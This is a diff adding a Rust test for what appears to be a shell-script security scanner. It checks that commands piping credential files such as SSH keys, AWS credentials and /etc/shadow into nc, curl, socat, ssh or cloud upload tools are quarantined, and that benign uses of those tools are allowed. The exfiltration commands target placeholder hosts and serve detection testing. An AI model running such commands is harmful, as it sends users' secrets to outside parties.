@@ -263,3 +263,36 @@ fn builtins_and_functions_of_shells_execute_texts() {
     }
     guard.end();
 }
+
+#[test]
+fn credentials_are_sent_as_standard_input() {
+    let mut guard = Guard::new();
+    for secret in ["~/.aws/credentials", "~/.ssh/id_rsa", "/etc/shadow", "~/.kube/config"] {
+        for sender in [
+            "ssh u@192.0.2.1 'cat > k'",
+            "openssl s_client -connect 192.0.2.1:443",
+            "nc 192.0.2.1 1",
+            "curl -T - http://example.invalid",
+            "curl --data-binary @- http://example.invalid",
+            "telnet 192.0.2.1",
+            "mail -s x x@example.invalid",
+            "socat - TCP:192.0.2.1:1",
+            "aws s3 cp - s3://x/y",
+            "rclone rcat x:y",
+        ] {
+            guard.is("a.sh", &format!("{sender} < {secret}"), Verdict::Quarantine);
+            guard.is("a.sh", &format!("cat {secret} | {sender}"), Verdict::Quarantine);
+            guard.is("a.sh", &format!("exec 3<{secret}\n{sender} <&3"), Verdict::Review);
+        }
+    }
+    for text in [
+        "ssh u@h 'cat >> .ssh/authorized_keys' < ~/.ssh/id_rsa.pub",
+        "ssh u@h 'cat > x' < data.csv",
+        "openssl s_client -connect h:443 < /dev/null",
+        "mail -s report x@example.invalid < report.txt",
+        "curl -T - http://example.invalid < data.csv",
+    ] {
+        guard.allows("a.sh", text);
+    }
+    guard.end();
+}
